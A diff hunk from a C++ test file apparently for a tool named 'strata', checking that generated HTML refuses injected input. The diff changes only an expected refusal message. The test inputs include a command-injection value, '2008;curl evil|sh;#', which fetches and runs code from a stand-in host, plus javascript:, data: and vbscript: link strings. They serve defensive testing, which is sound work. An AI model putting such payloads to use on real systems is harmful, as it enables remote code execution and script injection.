@@ -239,7 +239,7 @@ BOOST_AUTO_TEST_CASE(commands_to_copy_are_quoted_and_links_lead_to_pages_alone) 
     for (std::size_t at = 0; (at = edited.find("2008", at)) != std::string::npos; at += 20)
         edited.replace(at, 4, "2008;curl evil|sh;#");
     check_refused_with(strata({"survey", "merge", "--format=html", folder.write("e.json", edited)}),
-                       "the command does not ask for what the terms say");
+                       "the command and the terms do not agree");
     for (const std::string address :
          {"javascript:alert(1)", "JavaScript:x", "data:text/html,x", " https://a/", "vbscript:x"})
         check_refused_with(strata({"survey", "--format=html", "--playground=" + address, page}),
